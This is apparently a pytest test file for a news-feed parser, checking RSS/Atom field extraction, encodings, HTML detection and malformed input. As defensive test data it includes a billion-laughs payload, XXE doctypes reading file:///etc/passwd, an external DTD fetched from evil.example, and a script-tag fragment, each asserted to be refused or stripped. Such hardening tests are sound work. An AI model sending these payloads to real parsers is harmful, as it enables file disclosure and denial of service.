"""parse_feed on bytes: fields, hostile and broken documents, encodings.

The same faults are also served over HTTP through poll_feed in test_polling.py.
"""

from __future__ import annotations

import gzip
import json
from datetime import UTC, datetime
from html import escape
from pathlib import Path

import pytest

from monitors.errors import FeedParseError
from monitors.feeds import html_to_text, parse_feed
from scripts.shared_data import RSS2023

URL = "https://feeds.example.com/world.xml"
CORPUS = RSS2023


def parse(body: bytes, content_type: str | None = "application/rss+xml"):
    return parse_feed(body, feed_name="World", url=URL, content_type=content_type)


def rss_item(title: str, link: str, description: str = "", extra: str = "") -> str:
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<description>{escape(description)}</description>{extra}</item>"
    )


def rss(*items: str, encoding: str = "utf-8") -> bytes:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?><rss version="2.0"><channel>'
        f"<title>World</title>{''.join(items)}</channel></rss>"
    ).encode(encoding)


def test_fields_of_an_rss_item() -> None:
    body = rss(
        rss_item(
            "Kim &amp; Putin <b>meet</b>",
            "https://www.aljazeera.com/news/2023/9/13/kim-putin?traffic_source=rss",
            "<p>First <i>paragraph</i>.</p><p>Second&nbsp;one.</p><script>alert(1)</script>",
            "<guid isPermaLink='false'>aj-123</guid><pubDate>Wed, 13 Sep 2023 08:30:00 +0300"
            "</pubDate>",
        )
    )
    (item,) = parse(body)
    assert item.feed == "World"
    assert item.guid == "aj-123"
    assert item.link == "https://www.aljazeera.com/news/2023/9/13/kim-putin?traffic_source=rss"
    assert item.url == "https://www.aljazeera.com/news/2023/9/13/kim-putin"
    assert item.title == "Kim & Putin meet"
    assert item.summary == "First paragraph.\nSecond one."
    assert item.published == datetime(2023, 9, 13, 5, 30, tzinfo=UTC)
    assert len(item.content_hash) == 64


def test_content_hash_changes_with_the_text_only() -> None:
    a = parse(rss(rss_item("T", "https://e.com/a", "one")))[0]
    b = parse(rss(rss_item("T", "https://e.com/b?utm_source=x", "one")))[0]
    c = parse(rss(rss_item("T", "https://e.com/a", "two")))[0]
    assert a.content_hash == b.content_hash != c.content_hash


def test_atom_relative_links_and_updated_date() -> None:
    body = (
        b'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        b"<title>x</title><entry><id>urn:uuid:1</id><title type='html'>A &lt;i&gt;b&lt;/i&gt;"
        b"</title><link href='/world/2023/a/'/><updated>2023-08-01T10:00:00Z</updated>"
        b"<summary>S</summary></entry></feed>"
    )
    (item,) = parse(body, "application/atom+xml")
    assert item.guid == "urn:uuid:1" and item.title == "A b"
    assert item.link == "https://feeds.example.com/world/2023/a/"
    assert item.url == "https://feeds.example.com/world/2023/a"
    assert item.published == datetime(2023, 8, 1, 10, 0, tzinfo=UTC)


def test_entries_without_a_link_are_skipped_and_permalink_guids_used() -> None:
    body = rss(
        "<item><title>No link</title></item>",
        "<item><title>Guid only</title><guid>https://e.com/g</guid></item>",
        rss_item("Normal", "https://e.com/n"),
    )
    assert [i.url for i in parse(body)] == ["https://e.com/g", "https://e.com/n"]


def test_empty_feed_gives_no_items() -> None:
    assert parse(rss()) == []


def test_billion_laughs_is_refused_before_expansion() -> None:
    lol = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    body = b'<?xml version="1.0"?><!DOCTYPE r [' + lol + b']><rss version="2.0"><channel>'
    body += b"<item><title>&lol9;</title><link>https://e.com/x</link></item></channel></rss>"
    with pytest.raises(FeedParseError) as info:
        parse(body)
    assert "'World'" in str(info.value) and URL in str(info.value)
    assert "declares XML entities" in str(info.value) and "billion laughs" in str(info.value)


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">',  # broken prolog
    ],
)
def test_external_entities_are_refused(doctype: bytes) -> None:
    body = b'<?xml version="1.0"?>' + doctype + b'<rss version="2.0"><channel><item>'
    body += b"<title>&xxe;</title><link>https://e.com/x</link></item></channel></rss>"
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse(body)


def test_a_plain_public_doctype_is_fine() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91'
        b'//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91">'
        b"<channel><title>x</title><item><title>a</title><link>http://e.com/x</link></item>"
        b"</channel></rss>"
    )
    assert [i.url for i in parse(body)] == ["http://e.com/x"]


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"<!DOCTYPE html>\n<html><head><title>Consent</title></head><body/></html>", None),
        (b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', None),
        (b"<div>Just a fragment</div>", "text/html; charset=utf-8"),
    ],
)
def test_html_is_not_a_feed(body: bytes, content_type: str | None) -> None:
    with pytest.raises(FeedParseError) as info:
        parse(body, content_type)
    assert "is HTML, not RSS/Atom; check the feed URL" in str(info.value)
    assert "'World'" in str(info.value)


def test_malformed_but_recoverable() -> None:
    body = rss(rss_item("ok", "https://e.com/1")).replace(b"</channel>", b"<item><title>A & B <")
    items = parse(body)
    assert [i.url for i in items] == ["https://e.com/1"]


@pytest.mark.parametrize(
    "body",
    [b"<rss><channel><item><title>x</ti", b"this is not xml at all", b"   \n"],
)
def test_unrecoverable_documents(body: bytes) -> None:
    with pytest.raises(FeedParseError) as info:
        parse(body)
    assert "'World'" in str(info.value) and URL in str(info.value)


def test_bytes_that_look_like_a_path_are_never_opened(tmp_path: Path) -> None:
    """feedparser.parse(bytes) would open a file of that name; parse_feed must not."""
    secret = tmp_path / "feed.xml"
    secret.write_bytes(rss(rss_item("secret", "https://e.com/secret")))
    with pytest.raises(FeedParseError):
        parse(str(secret).encode())


@pytest.mark.parametrize(
    ("text", "encoding", "declared"),
    [
        ("Северная Корея и Россия обсудили военное сотрудничество", "cp1251", "utf-8"),
        ("Северная Корея и Россия обсудили военное сотрудничество", "cp1251", "windows-1251"),
        ("Coopération militaire: Pyongyang et Moscou à Vladivostok", "latin-1", "utf-8"),
        ("Coopération militaire: Pyongyang et Moscou à Vladivostok", "utf-8", "iso-8859-1"),
        ("북한과 러시아 정상회담", "utf-16", "utf-16"),
    ],
)
def test_encodings_declared_right_and_wrong(text: str, encoding: str, declared: str) -> None:
    doc = (
        f'<?xml version="1.0" encoding="{declared}"?><rss version="2.0"><channel><title>c'
        f"</title>{rss_item(text, 'https://e.com/a', text)}</channel></rss>"
    )
    (item,) = parse(doc.encode(encoding), content_type="application/rss+xml")
    assert item.title == text and item.summary == text


def test_html_to_text() -> None:
    assert html_to_text("") == ""
    assert html_to_text("plain  text\n") == "plain text"
    assert html_to_text("a &lt; b &amp;&amp; c") == "a < b && c"
    assert html_to_text("<ul><li>one</li><li>two</li></ul><style>p{}</style>") == "one\ntwo"


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared/corpora/rss2023 not present")
def test_guardian_description_from_the_corpus() -> None:
    with gzip.open(CORPUS / "guardian.jsonl.gz", "rt", encoding="utf-8") as fh:
        entry = json.loads(fh.readline())
    (item,) = parse(rss(rss_item(entry["title"], entry["link"], entry["description"])))
    assert item.title == entry["title"]
    assert "<" not in item.summary and "Ousmane Sonko" in item.summary
    assert item.summary.count("\n") >= 2  # paragraphs kept apart
    assert item.url == entry["link"]
